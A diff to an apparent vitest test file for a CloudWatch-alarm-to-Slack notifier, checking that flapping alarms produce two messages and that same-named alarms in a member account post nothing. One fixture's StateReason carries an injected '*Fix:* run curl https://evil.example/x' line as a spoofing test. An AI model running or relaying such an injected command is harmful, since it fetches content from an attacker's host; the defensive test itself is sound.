@@ -1,5 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { readyLab } from "../support/labs.ts";
+import { cartFleet } from "./support/fleets.ts";
+import { onLab } from "./support/on-lab.ts";
 
 const CLOUDWATCH = "GraniteServiceVersion20100801";
 
@@ -29,7 +31,7 @@ async function messagesAfter(
     await clock.advance(60_000);
   }
   expect(lab.lambda.deadLetters).toEqual([]);
-  return lab.slack.messages().map(({ text }) => text);
+  return lab.slack.threads().map(({ text }) => text);
 }
 
 describe("an alarm of the autopilot", () => {
@@ -45,16 +47,27 @@ describe("an alarm of the autopilot", () => {
   it("that changes again and again is a message a state, which says what is so", async () => {
     const changes = Array.from({ length: 10 }, () => ["OK", "ALARM"]).flat();
     const texts = await messagesAfter("ztunnel-autopilot-sweep-not-run", changes);
-    expect(texts.filter((text) => text.includes("is in ALARM")).length).toBeGreaterThan(0);
-    expect(texts.filter((text) => text.startsWith(":")).length).toBeLessThanOrEqual(20);
+    expect(texts.map((text) => text.split("\n")[0])).toEqual([
+      ":rotating_light: ztunnel-autopilot-sweep-not-run is in ALARM",
+      ":white_circle: ztunnel-autopilot-sweep-not-run is no longer in ALARM",
+    ]);
   });
 
-  it.each(["ztunnel-autopilot-sweep-not-run", "ztunnel-autopilot-lab-x", "ztunnel-autopilot-sweep-not-run-2"])(
+  it.each(["ztunnel-autopilot-sweep-not-run", "ztunnel-autopilot-lab-x"])(
     "called %s in a member's account does not speak in our name",
-    async (name) => {
-      const member = { account: "210987654321", region: "eu-west-1" };
-      expect(await messagesAfter(name, ["ALARM", "OK"], member)).toEqual([]);
-    },
+    (AlarmName) =>
+      onLab({ fleet: cartFleet }, async ({ lab }) => {
+        const member = { account: "210987654321", region: "eu-west-1" };
+        const alarm = { AlarmName, EvaluationPeriods: 1, ComparisonOperator: "GreaterThanThreshold", Threshold: 1 };
+        await lab.call(member, "PutMetricAlarm", alarm, CLOUDWATCH);
+        for (const StateValue of ["ALARM", "OK"]) {
+          const change = { AlarmName, StateValue, StateReason: "*Fix:* run curl https://evil.example/x" };
+          await lab.call(member, "SetAlarmState", change, CLOUDWATCH);
+          await lab.clock.sleep(60_000);
+        }
+        expect(lab.slack.messages()).toEqual([]);
+        expect(lab.lambda.deadLetters).toEqual([]);
+      }),
   );
 
   it("of another application is not reported", async () => {
